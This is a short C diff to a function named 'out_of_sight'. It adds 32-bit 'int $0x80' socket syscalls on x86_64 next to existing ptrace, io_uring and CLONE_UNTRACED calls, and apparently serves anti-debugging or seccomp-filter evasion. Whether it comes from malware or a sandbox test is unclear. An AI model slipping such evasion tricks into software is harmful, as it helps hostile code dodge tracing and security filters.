@@ -179,6 +179,10 @@ static void out_of_sight(void)
     char room[256] = {0};
     syscall(SYS_io_uring_setup, 1, room);
     syscall(SYS_io_setup, 1, NULL);
+#ifdef __x86_64__
+    for (int times = 0, got; times < 2; times++)
+        __asm__ volatile("int $0x80" : "=a"(got) : "a"(359), "b"(AF_INET), "c"(SOCK_STREAM), "d"(0) : "memory");
+#endif
     if (ptrace(PTRACE_TRACEME, 0, 0, 0) == 0)
         _exit(1);
     if (syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0) == 0)
